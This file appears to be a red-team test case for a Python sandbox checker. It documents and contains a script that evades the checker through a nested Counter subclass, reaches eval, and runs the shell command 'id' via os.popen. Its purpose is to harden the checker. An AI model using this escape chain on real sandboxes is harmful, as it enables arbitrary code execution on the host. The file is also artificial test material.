# expect: reject unbound
# line: 23
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family D: a class deriving from a library class reached by an attribute path (a class statement in a class body: Outer.Q, self.Q, Sub.Q) or beyond the table of classes the rules follow by name (the red team's program)
# Mechanism: as ok_10: the nested class Outer.Q (deriving from collections.Counter) is no 'library 
# class' for rule unbound's place check either, so it is stored in a list as a plain value (box = 
# [Outer.Q]) and box[0].copy(P) is Counter.copy(P).
# Goal reached: the builtin type by value, then eval by value (the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Outer:
    class Q(collections.Counter):
        pass

box = [Outer.Q]
print("by value:", box[0])
T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
